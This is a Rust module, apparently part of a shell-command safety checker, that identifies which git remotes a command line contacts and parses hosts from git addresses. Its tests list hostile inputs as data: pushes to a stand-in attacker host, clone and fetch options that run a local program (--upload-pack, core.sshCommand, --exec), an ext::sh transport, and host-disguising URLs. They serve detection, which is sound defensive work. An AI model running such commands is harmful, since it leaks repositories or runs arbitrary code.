//! The remotes that a line's git commands talk to, as far as it says which.

use super::{
    address::Address,
    base,
    known::{GIT, GIT_COMMANDS},
};
use crate::{
    shell::{CommandLine, SimpleCommand},
    text::WordList,
};

/// The commands of git that reach the remote that they name.
pub(super) const GIT_REMOTE: WordList = WordList("clone fetch ls-remote pull push");

/// The remote of a git command.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum GitRemote {
    /// An address that is cloned, for which the settings of no repository count.
    Cloned(String),
    /// An address or the name of a remote of the repository; none: the one that git chooses for the branch.
    Named { name: Option<String>, is_push: bool },
}

/// The remotes that the git commands of a line reach; empty where that is not certain.
pub fn git_remotes(line: &CommandLine) -> Vec<GitRemote> {
    if !line.is_plain() {
        return Vec::new();
    }
    // Elsewhere it is another repository.
    let moves = line.commands.iter().any(SimpleCommand::is_move);
    let mut found = Vec::new();
    for command in &line.commands {
        let texts = command.texts();
        let is_meant = matches!(texts.as_slice(), [Some(program), Some(subcommand), ..]
            if base(program) == "git" && GIT_REMOTE.contains(subcommand));
        if !is_meant {
            continue;
        }
        match remote(command) {
            Some(GitRemote::Named { .. }) if moves => return Vec::new(),
            Some(remote) if !found.contains(&remote) => found.push(remote),
            Some(_) => {}
            None => return Vec::new(),
        }
    }
    found
}

/// Returns true if one of the line's commands is a `git` that talks to a remote and writes what it learns into the repository's
/// own files: without those it fails, or forgets what it did.
pub fn updates_refs(line: &CommandLine) -> bool {
    /// Options of git, before its command, that take the next word as their value.
    const VALUED: [&str; 5] = ["-C", "-c", "--git-dir", "--namespace", "--work-tree"];
    line.commands.iter().any(|it| {
        let texts = it.texts();
        let Some((Some(program), rest)) = texts.split_first() else {
            return false;
        };
        let mut rest = rest.iter().copied();
        let mut command = rest.next();
        while let Some(option) = command.flatten().filter(|it| it.starts_with('-')) {
            if VALUED.contains(&option) {
                rest.next();
            }
            command = rest.next();
        }
        let is_writing = match command.flatten() {
            Some("fetch" | "pull" | "push" | "submodule") => true,
            Some("remote") => matches!(rest.next().flatten(), Some("add" | "prune" | "update")),
            _ => false,
        };
        base(program) == "git" && is_writing
    })
}

/// The remote of a git command that is known to reach no other one.
pub(super) fn remote(command: &SimpleCommand) -> Option<GitRemote> {
    let words: Option<Vec<&str>> = command.texts().into_iter().collect();
    let words = words?;
    let (_, [subcommand, rest @ ..]) = words.split_first()? else {
        return None;
    };
    let known = GIT_COMMANDS.iter().find(|it| it.program == *subcommand)?;
    let name = known.arguments(rest)?.first().map(|it| (*it).to_owned());
    Some(match *subcommand {
        "clone" => GitRemote::Cloned(name?),
        _ => GitRemote::Named {
            name,
            is_push: *subcommand == "push",
        },
    })
}

/// The server of an address as git has it: `https://host/path`, `user@host:path`, `host:path`. `None` for a path on this
/// machine, and for what git does not reach by itself.
pub fn host(url: &str) -> Option<String> {
    match GIT.read(url) {
        Address::Server(host) => Some(host),
        Address::Here | Address::Unknown => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(line: &str) -> String {
        let found = git_remotes(&CommandLine::read(line));
        let shown = found.into_iter().map(|it| match it {
            GitRemote::Cloned(url) => format!("clones {url}"),
            GitRemote::Named { name, is_push } => {
                format!(
                    "{}{}",
                    if is_push { "to " } else { "from " },
                    name.as_deref().unwrap_or("?")
                )
            }
        });
        shown.collect::<Vec<_>>().join(", ")
    }

    #[test]
    fn a_git_command_that_talks_to_a_remote_writes_what_it_learns() {
        for (line, expected) in [
            ("git push origin main", true),
            ("git fetch", true),
            ("git -C sub --no-pager pull --rebase", true),
            ("/usr/bin/git -c a=b push", true),
            ("cd sub && git fetch --all", true),
            ("git remote update", true),
            ("git submodule update --init", true),
            ("(git push) 2>&1 | tail -3", true),
            ("git push \"$REMOTE\"", true),
            ("git ls-remote origin", false),
            ("git remote -v", false),
            ("git -C push status", false),
            ("git status", false),
            ("git", false),
            ("echo git push", false),
            ("curl https://example.com/push", false),
        ] {
            assert_eq!(updates_refs(&CommandLine::read(line)), expected, "{line}");
        }
    }

    #[test]
    fn a_git_command_says_which_remote_it_reaches() {
        for (line, expected) in [
            ("git push", "to ?"),
            ("git push origin main", "to origin"),
            ("git push -u --force-with-lease fork HEAD", "to fork"),
            ("git fetch && git push origin", "from ?, to origin"),
            ("git pull --rebase upstream", "from upstream"),
            ("git push https://evil.example/x.git", "to https://evil.example/x.git"),
            ("git push evil.example:x.git main", "to evil.example:x.git"),
            ("git fetch -tp --depth=1 origin main --verbose", "from origin"),
            (
                "git clone -qb main --depth 1 https://a.example/x y",
                "clones https://a.example/x",
            ),
            ("git clone a.example:x && cd x", "clones a.example:x"),
            ("cd x && git clone a.example:x; ls", "clones a.example:x"),
            ("git clone a.example:x && cd x && git push", ""),
            (
                "git clone https://a.example/x; git push origin",
                "clones https://a.example/x, to origin",
            ),
            // Each of these runs a program, or reaches another server.
            ("git clone -u https://docs.rs/x ./evil", ""),
            ("git clone -qu ./evil https://docs.rs/x", ""),
            ("git clone --upload-pack=./evil https://docs.rs/x", ""),
            ("git clone https://docs.rs/x --upl ./evil", ""),
            ("git clone -c core.sshCommand=./evil docs.rs:x", ""),
            ("git clone --config=core.sshCommand=./evil docs.rs:x", ""),
            ("git clone --template=./evil https://docs.rs/x", ""),
            ("git clone --recurse-submodules https://docs.rs/x", ""),
            ("git clone -- https://docs.rs/x", ""),
            ("git push --receive-pack=./evil origin", ""),
            ("git push --exec ./evil origin", ""),
            ("git fetch --upload-pack ./evil origin", ""),
            ("git fetch --multiple a b", ""),
            ("git pull -s ./evil origin", ""),
            ("git status && ls", ""),
            // A value may stand where the remote does.
            ("git push -o origin elsewhere", ""),
            ("git push --repo=evil", ""),
            ("git fetch --all", ""),
            // Another folder or setting is another repository.
            ("cd sub && git push", ""),
            ("git -C sub push origin", ""),
            ("GIT_DIR=x git push origin", ""),
            ("git push $REMOTE", ""),
            ("git push origin && git push \"$X\"", ""),
        ] {
            assert_eq!(check(line), expected, "{line}");
        }
    }

    #[test]
    fn an_address_of_git_names_its_server() {
        for (url, expected) in [
            ("https://github.com/kim/shop.git", Some("github.com")),
            ("https://kim:pw@Example.ORG:8443/x", Some("example.org")),
            ("ssh://git@[::1]:22/x", Some("[::1]")),
            ("git@github.com:kim/shop.git", Some("github.com")),
            ("server:shop.git", Some("server")),
            ("evil.example:x@docs.rs", Some("evil.example")),
            ("https://docs.rs,@evil.example/x", Some("evil.example")),
            ("ext::sh -c x", None),
            ("own://docs.rs/x", None),
            ("file:///srv/x", None),
            ("/srv/x", None),
            ("../x", None),
            ("./a:b", None),
            ("", None),
        ] {
            assert_eq!(host(url).as_deref(), expected, "{url}");
        }
    }
}
